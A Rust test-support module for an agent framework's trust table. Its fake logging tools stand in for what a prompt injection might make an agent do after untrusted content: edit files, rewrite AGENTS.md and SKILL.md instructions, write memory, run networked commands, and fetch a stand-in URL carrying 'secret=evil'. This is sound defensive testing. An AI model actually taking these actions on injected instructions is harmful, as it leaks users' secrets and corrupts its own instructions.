//! An attempt at each act of the table, with tools that only write down that they acted.

use std::fs;
use std::fs::OpenOptions;
use std::io::Write as _;
use std::sync::Arc;

use async_trait::async_trait;
use peacrab::config::AgentConfig;
use peacrab::people::Role;
use peacrab::provider::ToolSchema;
use peacrab::tools::{
    AnyTool, CallTerms, Reach, ToolContext, ToolError, ToolKind, ToolOutput, ToolSet, ToolTerms,
};
use peacrab::trust::acts::CommandAccess;
use peacrab::trust::table::{Act, Ruling, TurnState, decide};
use peacrab::types::message::Address;
use peacrab::types::source::Source;
use peacrab::workspace::Folder;
use serde_json::{Value, json};

use crate::support::rig::{Rig, RigOptions};

/// A call that tries an act, and a word of it that who is asked must be shown.
#[derive(Clone, Debug)]
pub(super) struct Attempt {
    pub(super) tool: &'static str,
    pub(super) arguments: Value,
    pub(super) mark: &'static str,
}

/// The attempts at all acts that are not simply done after untrusted content, in a private chat or in a group.
pub(super) fn attempts(in_group: bool, is_attended: bool) -> Vec<Attempt> {
    let tainted = TurnState { is_tainted: true, is_attended };
    // A group's folder takes the place of the workspace.
    let here = |act| match act {
        Act::Write(Folder::Workspace) if in_group => Act::Write(Folder::Group),
        Act::Run(CommandAccess::Workspace | CommandAccess::Named) if in_group => {
            Act::Run(CommandAccess::Downloads)
        }
        Act::Run(CommandAccess::NamedAndShared) if in_group => Act::Run(CommandAccess::Shared),
        act => act,
    };
    let asked = Act::all().filter(|act| decide(here(*act), tainted) != Ruling::Do);
    let all: Vec<_> = asked.flat_map(of_act).collect();
    assert!(all.len() > 10, "{all:?}");
    all
}

fn of_act(act: Act) -> Vec<Attempt> {
    let attempt = |tool, mark, arguments| Attempt { tool, arguments, mark };
    match act {
        Act::Stay | Act::Write(Folder::Downloads | Folder::Group) | Act::OpenNamedUrl => Vec::new(),
        Act::Write(Folder::Workspace) => vec![
            attempt("write_file", "evil one", json!({"path": "notes/a.md", "content": "evil one"})),
            attempt("append_file", "evil two", json!({"path": "list.md", "content": "evil two"})),
            attempt(
                "edit_file",
                "evil six",
                json!({"path": "list.md", "old": "milk", "new": "evil six"}),
            ),
            attempt(
                "write_markdown_section",
                "evil part",
                json!({"path": "list.md", "heading": "# Evil", "content": "evil part"}),
            ),
            attempt(
                "create_markdown_file",
                "evil new",
                json!({"path": "new.md", "content": "evil new"}),
            ),
        ],
        Act::Write(Folder::Shared) => {
            let paths =
                [("shared/all.md", "evil all"), ("groups/g0123456789ab/x.md", "evil group")];
            let write = |(path, mark)| json!({"path": path, "content": mark});
            paths.map(|it| attempt("write_file", it.1, write(it))).into()
        }
        Act::WriteInstructions => vec![
            attempt(
                "write_file",
                "evil rule",
                json!({"path": "AGENTS.md", "content": "evil rule"}),
            ),
            attempt(
                "append_file",
                "evil skill",
                json!({"path": "skills/x/SKILL.md", "content": "evil skill"}),
            ),
            attempt(
                "create_markdown_file",
                "evil craft",
                json!({"path": "skills/y/SKILL.md", "content": "evil craft"}),
            ),
        ],
        Act::WriteMemory => vec![
            attempt("remember", "evil fact", json!({"text": "evil fact"})),
            attempt("note", "evil note", json!({"text": "evil note"})),
            attempt(
                "create_markdown_file",
                "evil day",
                json!({"path": "memory/202601/20260101.md", "content": "evil day"}),
            ),
        ],
        Act::Run(access) => {
            let (tool, mark) = match access {
                CommandAccess::Workspace => ("run_workspace", "evil run"),
                CommandAccess::Downloads => return Vec::new(),
                CommandAccess::Named => ("run_named", "evil named"),
                CommandAccess::Shared => ("run_shared", "evil spread"),
                CommandAccess::Network => ("run_network", "evil net"),
                CommandAccess::AskedNetwork => ("run_asked", "evil ask"),
                CommandAccess::NamedAndShared => ("run_copying", "evil copy"),
                CommandAccess::Both => ("run_both", "evil both"),
            };
            vec![attempt(tool, mark, json!({"command": mark}))]
        }
        // Nobody is asked about it.
        Act::WriteToCommand => Vec::new(),
        Act::OpenUrl => vec![attempt(
            "web_fetch",
            "secret=evil",
            json!({"url": "http://crabs.example/?secret=evil"}),
        )],
        Act::Tell => {
            vec![attempt("message", "evil text", json!({"to": "home:2", "text": "evil text"}))]
        }
        Act::GrantJob => vec![
            attempt(
                "schedule",
                "evil net",
                json!({
                    "action": "add", "when": "1d", "text": "evil net", "kind": "command",
                    "network": true
                }),
            ),
            attempt(
                "schedule",
                "evil allow",
                json!({"action": "add", "when": "1d", "text": "evil allow", "allow": "outside"}),
            ),
        ],
        Act::ActOutside => vec![
            attempt(
                "schedule",
                "evil job",
                json!({"action": "add", "when": "1d", "text": "evil job"}),
            ),
            attempt("outside", "evil out", json!({"text": "evil out"})),
        ],
    }
}

/// The files that attempts would change.
pub(super) fn fill(rig: &Rig) {
    fs::write(rig.workspace().join("list.md"), "milk\n").unwrap();
    fs::create_dir_all(rig.path().join("acts")).unwrap();
    fs::create_dir_all(rig.path().join("shared")).unwrap();
}

/// A rig with all tools; what those of others say is `text`.
pub(super) fn parts(text: &str) -> RigOptions {
    // Jobs have commands where there is a shell.
    let shell = Fake {
        name: "exec",
        reach: Some(Reach::Command(CommandAccess::Workspace)),
        source: Source::Command { read_others: true },
        text: text.to_owned(),
    };
    parts_with(text, vec![Arc::new(shell)])
}

/// The same with more tools.
pub(super) fn parts_with(text: &str, more: Vec<Arc<dyn AnyTool>>) -> RigOptions {
    let fake = |name, reach, source| {
        let text = text.to_owned();
        Arc::new(Fake { name, reach, source, text }) as Arc<dyn AnyTool>
    };
    let command = |access| Some(Reach::Command(access));
    let output = || Source::Command { read_others: true };
    let page = || Source::Page { url: "http://crabs.example/1".to_owned() };
    let server = Source::McpServer { name: "crabs".to_owned(), is_trusted: false };
    let tools = vec![
        fake("run_workspace", command(CommandAccess::Workspace), output()),
        fake("run_downloads", command(CommandAccess::Downloads), output()),
        fake("run_named", command(CommandAccess::Named), output()),
        fake("run_shared", command(CommandAccess::Shared), output()),
        fake("run_network", command(CommandAccess::Network), output()),
        fake("run_asked", command(CommandAccess::AskedNetwork), output()),
        fake("run_copying", command(CommandAccess::NamedAndShared), output()),
        fake("run_both", command(CommandAccess::Both), output()),
        fake("outside", Some(Reach::Outside), output()),
        fake("web_fetch", None, page()),
        fake(
            "web_search",
            Some(Reach::Here),
            Source::Search { engine: "crabs".to_owned(), urls: Vec::new() },
        ),
        fake("mcp_crabs", Some(Reach::Here), server),
    ];
    let agent =
        AgentConfig { steps_max: 60, subagent_steps_max: 60, ..RigOptions::default().agent };
    RigOptions {
        agent,
        tools: ToolSet::standard_with(tools.into_iter().chain(more).collect()),
        ..RigOptions::default()
    }
}

/// Writes down that it acted, and says what others wrote.
struct Fake {
    name: &'static str,
    /// None: it opens the address in its arguments.
    reach: Option<Reach>,
    source: Source,
    text: String,
}

#[async_trait]
impl AnyTool for Fake {
    fn terms(&self) -> ToolTerms {
        let kind = ToolKind::Acts { idempotent: true };
        ToolTerms { role: Role::User, kind, retries: false }
    }

    fn schema(&self) -> ToolSchema {
        let parameters = json!({"type": "object", "properties": {}});
        ToolSchema { name: self.name.to_owned(), description: "Acts.".to_owned(), parameters }
    }

    fn call_terms(&self, arguments: &str, _: &Address) -> CallTerms {
        let arguments: Value = serde_json::from_str(arguments).unwrap();
        let url = || Reach::Url(arguments["url"].as_str().unwrap().to_owned());
        CallTerms::of(self.reach.clone().unwrap_or_else(url))
    }

    async fn call_json(&self, arguments: &str, cx: &ToolContext) -> Result<ToolOutput, ToolError> {
        if arguments.contains("evil") {
            let log = cx.workspace.root().join("../acts").join(self.name);
            let mut log = OpenOptions::new().create(true).append(true).open(log).unwrap();
            writeln!(log, "{arguments}").unwrap();
        }
        Ok(ToolOutput::of(self.source.clone(), self.text.clone()))
    }
}
